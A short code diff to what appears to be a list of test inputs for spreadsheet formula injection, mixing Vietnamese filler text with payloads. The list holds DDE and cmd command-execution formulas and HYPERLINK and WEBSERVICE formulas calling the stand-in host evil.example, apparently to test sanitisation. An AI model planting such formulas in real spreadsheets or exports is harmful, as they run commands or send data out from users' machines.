@@ -21,7 +21,7 @@ PAYLOADS = (
     "-2+3+cmd|' /C notepad'!A1",
     '{=SUM(A1:A9)} và {="x"}',
     '＝HYPERLINK("http://evil.example/b")',
-    "DDE (\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
+    'DDE ("cmd";"/C calc";"__DdeLink_60_870516294")',
     'phần này, =WEBSERVICE("http://evil.example/c") ; =1+1 hết',
     "http://evil.example/d www.evil.example mailto:e@evil.example e@evil.example",
     "<r><t>chữ giả</t></r>",
